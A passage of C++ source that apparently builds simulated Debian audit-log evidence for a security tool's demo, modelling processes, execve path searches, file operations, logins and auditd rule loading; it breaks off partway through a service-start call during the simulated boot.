// The Linux demo evidence. The stories are built first as a list of timed events on a
// simulated Debian 12 host (processes with pids, credentials, cwd and $PATH; a file
// system with inodes), then written in time order, interleaved with streamed noise, by
// AuditLogWriter. Building first keeps every story event's serial, time and pid known
// for the ground truth without a second pass over a file that may be gigabytes long.

#include "linuxscenario.h"

#include "auditwriter.h"
#include "splitmix.h"

#include <QDir>
#include <QFile>
#include <QHash>

#include <algorithm>
#include <functional>

namespace Chainscope {

const LinuxScenarioRun *LinuxScenarioStory::firstRunOf(const QString &path) const
{
    for (const LinuxScenarioRun &run : firstRuns) {
        if (run.exec.exe == path || run.exec.path == path)
            return &run;
    }
    return nullptr;
}

const LinuxScenarioStory *LinuxScenarioResult::story(const QString &label) const
{
    for (const LinuxScenarioStory &s : stories) {
        if (s.label == label)
            return &s;
    }
    return nullptr;
}

namespace {

constexpr qint64 Second = 1000;
constexpr qint64 Minute = 60 * Second;
constexpr qint64 NoisePidBase = 100000;
constexpr qint64 PidMax = 4194304; // kernel.pid_max as systemd sets it on 64-bit hosts
// glibc fork(): CLONE_CHILD_SETTID | CLONE_CHILD_CLEARTID | SIGCHLD.
constexpr quint64 CloneFork = 0x1200011;
// Go's os/exec: CLONE_VFORK | CLONE_VM | SIGCHLD. Still a new process (no CLONE_THREAD).
constexpr quint64 CloneVfork = 0x4111;
constexpr quint64 AtFdcwd = 0xffffff9c; // AT_FDCWD as the 32-bit register value
constexpr qint64 Enoent = -2;
constexpr qint64 Einprogress = -115;
constexpr quint32 AptUid = 42; // _apt on a fresh Debian 12
constexpr quint32 NogroupGid = 65534;

// $PATH values: sudo's secure_path (root shells, dpkg, maintainer scripts), a login
// shell's, systemd's for services, and cron's default for /etc/cron.d jobs.
const char *const RootPathEnv = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
const char *const UserPathEnv = "/usr/local/bin:/usr/bin:/bin:/usr/local/games:/usr/games";
const char *const SystemdPathEnv = "/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin";
const char *const CrontabPathEnv = "/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin";
const char *const LdSo = "/lib64/ld-linux-x86-64.so.2";

using Random = SplitMix64;

// Draws from a stream of its own while it lives, then puts the shared stream back where
// it stood. A story added to the demo later uses one, so that the draws (and with them the
// events, pids, inodes and serials) of everything written before it stay as they were.
class RandomStream
{
public:
    RandomStream(Random &shared, quint64 seed)
        : m_shared(shared)
        , m_saved(shared)
    {
        m_shared = Random(seed);
    }
    ~RandomStream() { m_shared = m_saved; }
    RandomStream(const RandomStream &) = delete;
    RandomStream &operator=(const RandomStream &) = delete;

private:
    Random &m_shared;
    Random m_saved;
};

quint32 ipv4(const char *dotted)
{
    quint32 value = 0;
    quint32 part = 0;
    for (const char *p = dotted;; ++p) {
        if (*p == '.' || *p == '\0') {
            value = (value << 8) | part;
            part = 0;
            if (*p == '\0')
                break;
        } else {
            part = part * 10 + quint32(*p - '0');
        }
    }
    return value;
}

QByteArray baseName(const QByteArray &path)
{
    return path.mid(path.lastIndexOf('/') + 1);
}

QByteArray dirName(const QByteArray &path)
{
    return path.left(path.lastIndexOf('/'));
}

QDateTime toDateTime(qint64 ms)
{
    return QDateTime::fromMSecsSinceEpoch(ms, Qt::UTC);
}

// dpkg and apt write local time; the host runs in UTC.
QByteArray localTime(qint64 ms, bool twoSpaces = false)
{
    return toDateTime(ms)
        .toString(twoSpaces ? QStringLiteral("yyyy-MM-dd  HH:mm:ss") : QStringLiteral("yyyy-MM-dd HH:mm:ss"))
        .toLatin1();
}

QStringList toStrings(const QList<QByteArray> &list)
{
    QStringList out;
    for (const QByteArray &b : list)
        out.append(QString::fromUtf8(b));
    return out;
}

struct FileInfo
{
    qint64 inode = 0;
    quint32 mode = 0100755;
    quint32 uid = 0;
    quint32 gid = 0;
    QByteArray interpreter; // "#!" line of a script, else empty
    QByteArray interpreterArg; // the one argument a "#!" line may add ("#!/usr/bin/env node")
    bool isStatic = false; // statically linked: execve loads no ld.so
};

// What exists on the host's root file system and under which inode. Paths are resolved
// through the few symlinks that matter (merged /usr, /bin/sh -> dash, ld.so).
class FileSystem
{
public:
    explicit FileSystem(Random &random);

    QByteArray resolve(const QByteArray &path) const;
    const FileInfo *find(const QByteArray &path) const;
    FileInfo &add(const QByteArray &path, quint32 mode, qint64 inode = 0);
    void remove(const QByteArray &path) { m_files.remove(resolve(path)); }
    qint64 newInode() { return m_nextInode += m_random.between(1, 40); }

private:
    Random &m_random;
    QHash<QByteArray, FileInfo> m_files;
    qint64 m_nextInode = 0;
};

FileSystem::FileSystem(Random &random)
    : m_random(random)
{
    // Inodes of a root file system installed in one go: increasing, with gaps.
    m_nextInode = m_random.between(130000, 150000);
    const char *const dirs[] = {"/", "/usr", "/usr/bin", "/usr/sbin", "/usr/local", "/usr/local/bin", "/usr/local/sbin",
        "/usr/lib/apt/methods", "/var/lib/dpkg/info", "/var/cache/apt/archives", "/opt", "/home/admin", "/home/ops",
        "/root", "/srv/mirror", "/tmp", "/usr/share/netpulse", "/usr/share/logsweep"};
    for (const char *d : dirs)
        add(d, 040755);
    m_files[QByteArrayLiteral("/tmp")].mode = 041777;
    const char *const binaries[] = {"/usr/bin/dash", "/usr/bin/bash", "/usr/bin/ls", "/usr/bin/cat", "/usr/bin/grep",
        "/usr/bin/ps", "/usr/bin/df", "/usr/bin/uptime", "/usr/bin/id", "/usr/bin/uname", "/usr/bin/cp",
        "/usr/bin/chmod", "/usr/bin/apt-get", "/usr/bin/dpkg", "/usr/bin/dpkg-deb", "/usr/bin/curl", "/usr/bin/wget",
        "/usr/bin/rsync", "/usr/bin/git", "/usr/bin/tail", "/usr/bin/find", "/usr/bin/python3.11", "/usr/bin/hostname",
        "/usr/bin/run-parts", "/usr/bin/systemctl", "/usr/bin/journalctl", "/usr/bin/less", "/usr/bin/free",
        "/usr/bin/du", "/usr/bin/sort", "/usr/bin/head", "/usr/bin/w", "/usr/bin/date", "/usr/bin/wc", "/usr/bin/ss",
        "/usr/bin/top", "/usr/bin/vim.basic", "/usr/sbin/sshd", "/usr/sbin/cron", "/usr/sbin/auditctl",
        "/usr/sbin/zabbix_agentd", "/usr/lib/apt/methods/http", "/usr/lib/systemd/systemd",
        "/usr/lib/systemd/systemd-timesyncd", "/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2"};
    for (const char *b : binaries)
        add(b, 0100755);
    add("/usr/bin/sudo", 0104755);
    // Maintainer scripts of packages installed before the timeline starts.
    for (const char *s :
        {"/var/lib/dpkg/info/rsync.postinst", "/var/lib/dpkg/info/rsync.prerm", "/var/lib/dpkg/info/man-db.postinst"})
        add(s, 0100755).interpreter = QByteArrayLiteral("/bin/sh");
    // New inodes (files created during the timeline) come from a later range.
    m_nextInode = m_random.between(1040000, 1090000);
}

QByteArray FileSystem::resolve(const QByteArray &path) const
{
    QByteArray p = path;
    if (p.startsWith("/bin/") || p.startsWith("/sbin/") || p.startsWith("/lib/"))
        p = "/usr" + p;
    if (p == "/usr/bin/sh")
        return QByteArrayLiteral("/usr/bin/dash");
    if (p == "/usr/bin/python3")
        return QByteArrayLiteral("/usr/bin/python3.11");
    if (p == "/usr/bin/vi")
        return QByteArrayLiteral("/usr/bin/vim.basic");
    if (p == LdSo)
        return QByteArrayLiteral("/usr/lib/x86_64-linux-gnu/ld-linux-x86-64.so.2");
    if (p == "/usr/bin/npm") // NodeSource's nodejs package
        return QByteArrayLiteral("/usr/lib/node_modules/npm/bin/npm-cli.js");
    return p;
}

const FileInfo *FileSystem::find(const QByteArray &path) const
{
    const auto it = m_files.constFind(resolve(path));
    return it == m_files.constEnd() ? nullptr : &it.value();
}

FileInfo &FileSystem::add(const QByteArray &path, quint32 mode, qint64 inode)
{
    FileInfo &info = m_files[resolve(path)];
    info.inode = inode ? inode : newInode();
    info.mode = mode;
    return info;
}

// A simulated process: the audit identity plus the $PATH its shell or execvp searches.
struct Proc
{
    AuditTask t;
    QByteArray pathEnv;
};

// An event of a story, written later in time order.
struct Pending
{
    qint64 time = 0;
    int order = 0;
    qint64 daemonSequence = -1; // >= 0: an event auditd writes itself (DAEMON_START)
    std::function<void(AuditLogWriter &)> write;
};

// The simulated host: a time cursor, pid and session counters, the file system, and the
// events the stories produced so far. Every operation happens at the cursor and moves it
// on by a few milliseconds, so one process's events are always in order.
class Host
{
public:
    Host(const LinuxScenarioOptions &options, Random &random)
        : fs(random)
        , rng(random)
        , m_now(options.start.toMSecsSinceEpoch())
    {
    }

    qint64 now() const { return m_now; }
    void setTime(qint64 ms) { m_now = ms; }
    void pause(qint64 lo, qint64 hi) { m_now += rng.between(lo, hi); }

    // Queues an event at the cursor; the id is its index, later mapped to the serial.
    int add(std::function<void(AuditLogWriter &)> write)
    {
        Pending p;
        p.time = m_now;
        p.order = int(pending.size());
        p.write = std::move(write);
        pending.append(std::move(p));
        return int(pending.size() - 1);
    }

    qint64 newPid() { return m_nextPid += rng.between(1, 4); }
    void setNextPid(qint64 pid) { m_nextPid = pid; }
    quint32 newSession() { return ++m_lastSession; }

    // Plausible user-space addresses for a0..a3: heap (PIE brk), mmap'ed libraries, stack.
    quint64 heapPointer() { return 0x55a000000000ULL + (rng.next() % 0x5fffffff0ULL) * 16; }
    quint64 libPointer() { return 0x7f0000000000ULL + (rng.next() % 0xffffffffULL) * 16 + 0xa10; }
    quint64 stackPointer() { return 0x7ffc00000000ULL + (rng.next() % 0x3fffffffULL) * 16; }

    Proc fork(Proc &parent, quint64 flags = CloneFork);
    Proc vfork(Proc &parent);
    LinuxScenarioExec exec(Proc &p, const QByteArray &file, const QList<QByteArray> &argv);
    void exit(Proc &p, int status = 0);
    LinuxScenarioConnect connect(Proc &p, const char *address, quint16 port, bool nonBlocking, int fd);
    LinuxScenarioWrite createFile(
        Proc &p, const QByteArray &path, quint64 flags, quint32 modeArg, quint32 createdMode, const QByteArray &target);
    LinuxScenarioWrite chmodFile(Proc &p, const QByteArray &path, quint32 mode);
    LinuxScenarioWrite linkFile(Proc &p, const QByteArray &from, const QByteArray &to, const QByteArray &target);
    LinuxScenarioWrite renameFile(Proc &p, const QByteArray &from, const QByteArray &to);
    LinuxScenarioWrite unlinkFile(Proc &p, const QByteArray &path, const QByteArray &target);
    void user(const Proc &p, const char *type, const QByteArray &message);
    void login(Proc &p, quint32 auid);

    // One line of /var/log/dpkg.log at the cursor.
    void dpkg(const QByteArray &text) { dpkgLog += localTime(m_now) + ' ' + text + '\n'; }

    FileSystem fs;
    Random &rng;
    QList<Pending> pending;
    QByteArray dpkgLog;
    QByteArray historyLog;

private:
    void failedExec(Proc &p, const QByteArray &candidate);
    AuditPathItem pathItem(const QByteArray &name, const QByteArray &lookup, const char *nametype) const;
    AuditPathItem parentItem(const QByteArray &path) const;
    LinuxScenarioWrite write(const Proc &p, int id, const QByteArray &path, const QByteArray &target,
        const char *syscall, const char *nametype) const;

    qint64 m_now = 0;
    qint64 m_nextPid = 0;
    quint32 m_lastSession = 0;
};

AuditPathItem Host::pathItem(const QByteArray &name, const QByteArray &lookup, const char *nametype) const
{
    AuditPathItem item;
    item.name = name;
    item.nametype = nametype;
    if (const FileInfo *info = fs.find(lookup)) {
        item.inode = info->inode;
        item.mode = info->mode;
        item.ouid = info->uid;
        item.ogid = info->gid;
    }
    return item;
}

AuditPathItem Host::parentItem(const QByteArray &path) const
{
    // The kernel logs the parent with the child's name cut after the last slash.
    return pathItem(path.left(path.lastIndexOf('/') + 1), dirName(path), "PARENT");
}

LinuxScenarioWrite Host::write(const Proc &p, int id, const QByteArray &path, const QByteArray &target,
    const char *syscall, const char *nametype) const
{
    LinuxScenarioWrite w;
    w.time = toDateTime(m_now);
    w.serial = id;
    w.path = QString::fromUtf8(path);
    w.target = QString::fromUtf8(target);
    w.syscall = QString::fromLatin1(syscall);
    w.nametype = QString::fromLatin1(nametype);
    w.pid = p.t.pid;
    w.exe = QString::fromUtf8(p.t.exe);
    return w;
}

Proc Host::fork(Proc &parent, quint64 flags)
{
    Proc child = parent;
    child.t.pid = newPid();
    child.t.ppid = parent.t.pid;
    AuditSyscall call;
    call.number = AuditSyscallNr::Clone;
    call.exit = child.t.pid;
    call.a0 = flags;
    // fork() passes &THREAD_SELF->tid as child_tidptr; Go's vfork passes nothing.
    call.a3 = flags == CloneFork ? libPointer() : 0;
    call.key = QByteArrayLiteral("proc");
    const AuditTask task = parent.t;
    add([call, task](AuditLogWriter &w) {
        w.syscall(call, task);
        w.proctitle(task.argv);
    });
    pause(0, 2);
    return child;
}

Proc Host::vfork(Proc &parent)
{
    // Debian 12's dash starts each external command with vfork(), which takes no
    // arguments: a0..a3 are what the registers held. glibc's wrapper pops its return
    // address into rdi, so a0 points into dash's text.
    Proc child = parent;
    child.t.pid = newPid();
    child.t.ppid = parent.t.pid;
    AuditSyscall call;
    call.number = AuditSyscallNr::Vfork;
    call.exit = child.t.pid;
    call.a0 = 0x55d000000000ULL + (rng.next() % 0xfffffffULL) * 16 + 0x6;
    call.a1 = stackPointer();
    call.a2 = 0;
    call.a3 = 8;
    call.key = QByteArrayLiteral("proc");
    const AuditTask task = parent.t;
    add([call, task](AuditLogWriter &w) {
        w.syscall(call, task);
        w.proctitle(task.argv);
    });
    pause(0, 1);
    return child;
}

void Host::failedExec(Proc &p, const QByteArray &candidate)
{
    AuditSyscall call;
    call.number = AuditSyscallNr::Execve;
    call.exit = Enoent;
    // The path, argv and envp arrays all live on the shell's heap.
    call.a0 = heapPointer();
    call.a1 = call.a0 + quint64(rng.between(2, 400)) * 16;
    call.a2 = call.a1 + quint64(rng.between(2, 400)) * 16;
    call.a3 = 8;
    call.items = 1;
    call.key = QByteArrayLiteral("exec");
    const AuditTask task = p.t;
    const AuditPathItem item = pathItem(candidate, QByteArray(), "UNKNOWN");
    add([call, task, item](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, item);
        w.proctitle(task.argv);
    });
    pause(0, 1);
}

LinuxScenarioExec Host::exec(Proc &p, const QByteArray &file, const QList<QByteArray> &argv)
{
    QByteArray path = file;
    if (!file.contains('/')) {
        // dash and glibc's execvp try each $PATH directory with execve until one works.
        path.clear();
        for (const QByteArray &dir : p.pathEnv.split(':')) {
            const QByteArray candidate = dir + '/' + file;
            if (fs.find(candidate)) {
                path = candidate;
                break;
            }
            failedExec(p, candidate);
        }
        Q_ASSERT(!path.isEmpty());
    }
    const FileInfo *info = fs.find(path);
    Q_ASSERT(info);
    QList<QByteArray> newArgv = argv;
    QList<AuditPathItem> items {pathItem(path, path, "NORMAL")};
    QByteArray exe = fs.resolve(path);
    if (!info->interpreter.isEmpty()) {
        // binfmt_script: the interpreter runs with the script's path as its argument.
        newArgv = QList<QByteArray> {info->interpreter};
        if (!info->interpreterArg.isEmpty())
            newArgv.append(info->interpreterArg);
        newArgv += QList<QByteArray> {path} + argv.mid(1);
        items.append(pathItem(info->interpreter, info->interpreter, "NORMAL"));
        exe = fs.resolve(info->interpreter);
    }
    if (!info->isStatic)
        items.append(pathItem(LdSo, LdSo, "NORMAL"));
    p.t.comm = baseName(path).left(15);
    p.t.exe = exe;
    p.t.argv = newArgv;

    AuditSyscall call;
    call.number = AuditSyscallNr::Execve;
    call.exit = 0;
    call.a0 = heapPointer();
    call.a1 = call.a0 + quint64(rng.between(2, 400)) * 16;
    call.a2 = call.a1 + quint64(rng.between(2, 400)) * 16;
    call.a3 = rng.chance(50) ? 8 : 1;
    call.items = int(items.size());
    call.key = QByteArrayLiteral("exec");
    const AuditTask task = p.t;
    const int id = add([call, task, items](AuditLogWriter &w) {
        w.syscall(call, task);
        w.execve(task.argv);
        w.cwd(task.cwd);
        for (qsizetype i = 0; i < items.size(); ++i)
            w.path(int(i), items.at(i));
        w.proctitle(task.argv);
    });

    LinuxScenarioExec e;
    e.time = toDateTime(m_now);
    e.serial = id;
    e.pid = p.t.pid;
    e.ppid = p.t.ppid;
    e.uid = p.t.uid;
    e.exe = QString::fromUtf8(exe);
    e.path = QString::fromUtf8(path);
    e.argv = toStrings(newArgv);
    pause(1, 4);
    return e;
}

void Host::exit(Proc &p, int status)
{
    AuditSyscall call;
    call.number = AuditSyscallNr::ExitGroup;
    call.returns = false;
    call.a0 = quint64(status);
    call.a1 = 0x3c;
    call.a2 = 0xe7;
    call.a3 = 0xffffffffffffff80ULL;
    call.key = QByteArrayLiteral("proc");
    const AuditTask task = p.t;
    add([call, task](AuditLogWriter &w) {
        w.syscall(call, task);
        w.proctitle(task.argv);
    });
    pause(0, 2);
}

LinuxScenarioConnect Host::connect(Proc &p, const char *address, quint16 port, bool nonBlocking, int fd)
{
    AuditSyscall call;
    call.number = AuditSyscallNr::Connect;
    call.exit = nonBlocking ? Einprogress : 0;
    call.a0 = quint64(fd);
    call.a1 = rng.chance(50) ? heapPointer() : stackPointer();
    call.a2 = 0x10; // sizeof(struct sockaddr_in)
    call.a3 = rng.chance(50) ? 0 : quint64(rng.between(1, 0x7f));
    call.key = QByteArrayLiteral("egress");
    const AuditTask task = p.t;
    const quint32 ip = ipv4(address);
    const int id = add([call, task, ip, port](AuditLogWriter &w) {
        w.syscall(call, task);
        w.sockaddrInet(ip, port);
        w.proctitle(task.argv);
    });
    LinuxScenarioConnect c;
    c.time = toDateTime(m_now);
    c.serial = id;
    c.pid = p.t.pid;
    c.exe = QString::fromUtf8(p.t.exe);
    c.address = QString::fromLatin1(address);
    c.port = port;
    c.exitCode = int(call.exit);
    pause(1, 3);
    return c;
}

LinuxScenarioWrite Host::createFile(
    Proc &p, const QByteArray &path, quint64 flags, quint32 modeArg, quint32 createdMode, const QByteArray &target)
{
    const AuditPathItem parent = parentItem(path);
    fs.add(path, createdMode).uid = p.t.fsuid;
    const AuditPathItem created = pathItem(path, path, "CREATE");
    AuditSyscall call;
    call.number = AuditSyscallNr::Openat;
    call.exit = rng.between(3, 6);
    call.a0 = AtFdcwd;
    call.a1 = heapPointer();
    call.a2 = flags;
    call.a3 = modeArg;
    call.items = 2;
    call.key = QByteArrayLiteral("binwrite");
    const AuditTask task = p.t;
    const int id = add([call, task, parent, created](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, parent);
        w.path(1, created);
        w.proctitle(task.argv);
    });
    const LinuxScenarioWrite result = write(p, id, path, target, "openat", "CREATE");
    pause(2, 30);
    return result;
}

LinuxScenarioWrite Host::chmodFile(Proc &p, const QByteArray &path, quint32 mode)
{
    if (FileInfo *info = const_cast<FileInfo *>(fs.find(path)))
        info->mode = (info->mode & ~07777u) | mode;
    const AuditPathItem item = pathItem(path, path, "NORMAL");
    AuditSyscall call;
    call.number = AuditSyscallNr::Fchmodat;
    call.a0 = AtFdcwd;
    call.a1 = heapPointer();
    call.a2 = mode;
    call.a3 = 0;
    call.items = 1;
    call.key = QByteArrayLiteral("binwrite");
    const AuditTask task = p.t;
    const int id = add([call, task, item](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, item);
        w.proctitle(task.argv);
    });
    const LinuxScenarioWrite result = write(p, id, path, path, "fchmodat", "NORMAL");
    pause(1, 3);
    return result;
}

LinuxScenarioWrite Host::linkFile(Proc &p, const QByteArray &from, const QByteArray &to, const QByteArray &target)
{
    const AuditPathItem old = pathItem(from, from, "NORMAL");
    const AuditPathItem parent = parentItem(to);
    const FileInfo *source = fs.find(from);
    fs.add(to, source->mode, source->inode);
    const AuditPathItem created = pathItem(to, to, "CREATE");
    AuditSyscall call;
    call.number = AuditSyscallNr::Link;
    call.a0 = heapPointer();
    call.a1 = call.a0 + quint64(rng.between(2, 64)) * 16;
    call.a2 = stackPointer();
    call.a3 = 0;
    call.items = 3;
    call.key = QByteArrayLiteral("binwrite");
    const AuditTask task = p.t;
    const int id = add([call, task, old, parent, created](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, old);
        w.path(1, parent);
        w.path(2, created);
        w.proctitle(task.argv);
    });
    const LinuxScenarioWrite result = write(p, id, to, target, "link", "CREATE");
    pause(0, 2);
    return result;
}

LinuxScenarioWrite Host::renameFile(Proc &p, const QByteArray &from, const QByteArray &to)
{
    // Replacing an existing name: both parents, the old name and the replaced file as
    // DELETE, then the new name as CREATE with the moved file's inode.
    const AuditPathItem oldParent = parentItem(from);
    const AuditPathItem newParent = parentItem(to);
    const AuditPathItem moved = pathItem(from, from, "DELETE");
    const AuditPathItem replaced = pathItem(to, to, "DELETE");
    const FileInfo source = *fs.find(from);
    fs.remove(from);
    fs.add(to, source.mode, source.inode);
    const AuditPathItem created = pathItem(to, to, "CREATE");
    AuditSyscall call;
    call.number = AuditSyscallNr::Rename;
    call.a0 = heapPointer();
    call.a1 = call.a0 + quint64(rng.between(2, 64)) * 16;
    call.a2 = 0;
    call.a3 = 0;
    call.items = 5;
    call.key = QByteArrayLiteral("binwrite");
    const AuditTask task = p.t;
    const int id = add([call, task, oldParent, newParent, moved, replaced, created](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, oldParent);
        w.path(1, newParent);
        w.path(2, moved);
        w.path(3, replaced);
        w.path(4, created);
        w.proctitle(task.argv);
    });
    const LinuxScenarioWrite result = write(p, id, to, to, "rename", "CREATE");
    pause(0, 2);
    return result;
}

LinuxScenarioWrite Host::unlinkFile(Proc &p, const QByteArray &path, const QByteArray &target)
{
    const AuditPathItem parent = parentItem(path);
    const AuditPathItem deleted = pathItem(path, path, "DELETE");
    fs.remove(path);
    AuditSyscall call;
    call.number = AuditSyscallNr::Unlink;
    call.a0 = heapPointer();
    call.a1 = 0;
    call.a2 = 0;
    call.a3 = 0;
    call.items = 2;
    call.key = QByteArrayLiteral("binwrite");
    const AuditTask task = p.t;
    const int id = add([call, task, parent, deleted](AuditLogWriter &w) {
        w.syscall(call, task);
        w.cwd(task.cwd);
        w.path(0, parent);
        w.path(1, deleted);
        w.proctitle(task.argv);
    });
    const LinuxScenarioWrite result = write(p, id, path, target, "unlink", "DELETE");
    pause(0, 2);
    return result;
}

void Host::user(const Proc &p, const char *type, const QByteArray &message)
{
    const AuditTask task = p.t;
    const QByteArray recordType(type);
    add([task, recordType, message](AuditLogWriter &w) { w.userMessage(recordType, task, message); });
    pause(1, 6);
}

void Host::login(Proc &p, quint32 auid)
{
    // pam_loginuid writes /proc/self/loginuid: the kernel logs LOGIN inside that write(),
    // which makes the write itself part of the event.
    const quint32 ses = newSession();
    QByteArray body = "pid=" + QByteArray::number(p.t.pid) + " uid=" + QByteArray::number(p.t.uid) + " subj=" + p.t.subj
        + " old-auid=" + QByteArray::number(p.t.auid) + " auid=" + QByteArray::number(auid) + " tty=" + p.t.tty
        + " old-ses=" + QByteArray::number(p.t.ses) + " ses=" + QByteArray::number(ses) + " res=1";
    p.t.auid = auid;
    p.t.ses = ses;
    AuditSyscall call;
    call.number = AuditSyscallNr::Write;
    call.exit = QByteArray::number(auid).size();
    call.a0 = quint64(rng.between(3, 9));
    call.a1 = stackPointer();
    call.a2 = quint64(call.exit);
    call.a3 = 0;
    const AuditTask task = p.t;
    add([body, call, task](AuditLogWriter &w) {
        w.record("LOGIN", body);
        w.syscall(call, task);
        w.proctitle(task.argv);
    });
    pause(1, 5);
}

// A package apt installs or upgrades in a story.
struct Package
{
    QByteArray name;
    QByteArray oldVersion; // empty: a fresh install
    QByteArray version;
    QList<QByteArray> binaries; // executables the .deb replaces in /usr/bin
    bool prerm = false;
    bool postinst = false;
    bool manPages = false;
    // A postinst that copies /usr/share/<name>/<basename> here with cp, then chmods it.
    QByteArray dropPath;
    bool dropStatic = false; // the dropped file is a static (Go) binary
};

// An interactive ssh session: sshd's privileged monitor, its user-side child, the shell.
struct Session
{
    QByteArray user;
    quint32 uid = 0;
    QByteArray from;
    QByteArray pts;
    Proc monitor;
    Proc child;
    Proc shell;
};

// sudo with Debian 12's use_pty: sudo, its pty monitor, and the command.
struct SudoRun
{
    Proc sudo;
    Proc monitor;
    Proc command;
    QByteArray account;
};

// A cron job: cron's child that holds the PAM session, and the job's shell.
struct CronRun
{
    Proc child;
    Proc job;
};

class Scenario
{
public:
    Scenario(const LinuxScenarioOptions &options, Random &random)
        : h(options, random)
        , m_t0(options.start.toMSecsSinceEpoch())
        , m_seed(options.seed)
    {
    }

    void build();

    Host h;
    QList<LinuxScenarioStory> stories;
    Proc opsShell; // the long ssh session the noise runs its commands in
    Proc timesyncd;
    Proc zabbix;
    Proc cron;

private:
    qint64 at(qint64 offset) const { return m_t0 + offset; }
    void boot();
    void startService(Proc &p, const char *unit, const QByteArray &exe, const QList<QByteArray> &argv);
    Session sshLogin(const QByteArray &user, quint32 uid, const QByteArray &from, int pts);
    void sshLogout(Session &s);
    LinuxScenarioExec command(Proc &shell, const QByteArray &path, const QList<QByteArray> &argv, qint64 ms);
    SudoRun sudoStart(Session &s, const QList<QByteArray> &argv, LinuxScenarioExec *commandExec);
    void sudoEnd(SudoRun &run);
    CronRun cronStart(const QByteArray &shellCommand, const char *pathEnv);
    void cronEnd(CronRun &run);
    void hourlyCron(qint64 offset);
    void aptRun(Session &s, LinuxScenarioStory &story, const QList<Package> &packages, const QList<QByteArray> &argv);
    void runScript(Proc &dpkg, const QByteArray &script, const QList<QByteArray> &args);
    void dropTool(Proc &postinst, const Package &pkg, LinuxScenarioStory &story);
    void storyA(Session &admin);
    void storyB(Session &admin, int phase);
    void storyCInstall(Session &admin);
    void storyCFirstRun();
    void storyCEgress();
    void storyD();
    void payload(Proc &parent, quint64 cloneFlags, const QList<QByteArray> &shArgv, const char *address, quint16 port,
        const QList<QList<QByteArray>> &commands, LinuxScenarioRun &run);
    void periodicConnects(qint64 until);

    qint64 m_t0;
    quint64 m_seed;
    // The next poll of each periodic connect, so that a later call carries on from there.
    qint64 m_nextNtp = -1;
    qint64 m_nextZabbix = -1;
    Proc m_systemd;
    Proc m_sshd;
    Proc m_logsweepd;
};

void Scenario::boot()
{
    h.setTime(m_t0);
    m_systemd.t.pid = 1;
    m_systemd.t.comm = "systemd";
    m_systemd.t.exe = "/usr/lib/systemd/systemd";
    m_systemd.t.argv = {"/sbin/init"};
    m_systemd.pathEnv = SystemdPathEnv;

    const qint64 auditdPid = h.rng.between(560, 640);
    const quint32 sequence = quint32(h.rng.between(1000, 9999)); // auditd: rand() % 10000
    const QByteArray start = "op=start ver=3.0.9 format=raw kernel=6.1.0-18-amd64 auid=4294967295 pid="
        + QByteArray::number(auditdPid) + " uid=0 ses=4294967295 subj=unconfined  res=success";
    h.add([start](AuditLogWriter &w) { w.record("DAEMON_START", start); });
    h.pending.last().daemonSequence = sequence;
    h.pause(90, 200);

    // augenrules --load runs auditctl -R on the merged rules.
    Proc augenrules;
    augenrules.t.pid = auditdPid + h.rng.between(3, 9);
    augenrules.t.ppid = 1;
    augenrules.t.comm = "augenrules";
    augenrules.t.exe = "/usr/bin/dash";
    augenrules.t.argv = {"/bin/sh", "/sbin/augenrules", "--load"};
    Proc auditctl = augenrules;
    auditctl.t.pid = augenrules.t.pid + h.rng.between(8, 20);
    auditctl.t.ppid = augenrules.t.pid;
    auditctl.t.comm = "auditctl";
    auditctl.t.exe = "/usr/sbin/auditctl";
    auditctl.t.argv = {"/sbin/auditctl", "-R", "/etc/audit/audit.rules"};

    const QByteArray session = "auid=4294967295 ses=4294967295 subj=unconfined";
    for (const char *setting :
        {"audit_backlog_limit=8192 old=64", "audit_failure=1 old=1", "audit_backlog_wait_time=60000 old=60000"}) {
        const QByteArray body = "op=set " + QByteArray(setting) + ' ' + session + " res=1";
        h.add([body](AuditLogWriter &w) { w.record("CONFIG_CHANGE", body); });
        h.pause(0, 1);
    }
    // The keys of /etc/audit/rules.d/chainscope.rules, in order: -w /usr/local/bin, -w /usr/bin
    // and -w /opt (-p wa); execve; connect; clone,fork,vfork; exit_group. All on the exit list (4).
    const char *const ruleKeys[] = {"binwrite", "binwrite", "binwrite", "exec", "egress", "proc", "proc"};
    bool first = true;
    for (const char *key : ruleKeys) {
        const QByteArray body = session + " op=add_rule key=\"" + key + "\" list=4 res=1";
        if (first) {
            // No rule existed when this sendto() began, so it has no syscall record.
            h.add([body](AuditLogWriter &w) { w.record("CONFIG_CHANGE", body); });
            first = false;
        } else {
            AuditSyscall call;
            call.number = AuditSyscallNr::Sendto;
            call.exit = 1072;
            call.a0 = 3;
            call.a1 = h.stackPointer();
            call.a2 = 1072;
            call.a3 = 0;
            const AuditTask task = auditctl.t;
            h.add([body, call, task](AuditLogWriter &w) {
                w.record("CONFIG_CHANGE", body);
                w.syscall(call, task);
                w.record("SOCKADDR", "saddr=100000000000000000000000"); // AF_NETLINK, to the kernel
                w.proctitle(task.argv);
            });
        }
        h.pause(0, 2);
    }
    // The exit_group rule is in place now.
    h.exit(auditctl);
    h.pause(2, 10);
    h.exit(augenrules);
    for (const char *unit : {"auditd", "audit-rules"}) {
        h.user(m_systemd, "SERVICE_START",
            "unit=" + QByteArray(unit)
                + " comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\" hostname=? addr=? terminal=? res=success");
    }
    h.setNextPid(auditctl.t.pid + h.rng.between(20, 60));

    h.pause(300, 900);
    startService(timesyncd, "systemd-timesyncd", "/lib/systemd/systemd-timesyncd", {"/lib/systemd/systemd-timesyncd"});
    startService(cron, "cron", "/usr/sbin/cron", {"/usr/sbin/cron", "-f"});
    startService(m_sshd, "ssh", "/usr/sbin/sshd", {"/usr/sbin/sshd", "-D"});
    m_sshd.t.argv = {"sshd: /usr/sbin/sshd -D [listener] 0 of 10-100 startups"};
    startService(zabbix, "zabbix-agent", "/usr/sbin/zabbix_agentd",
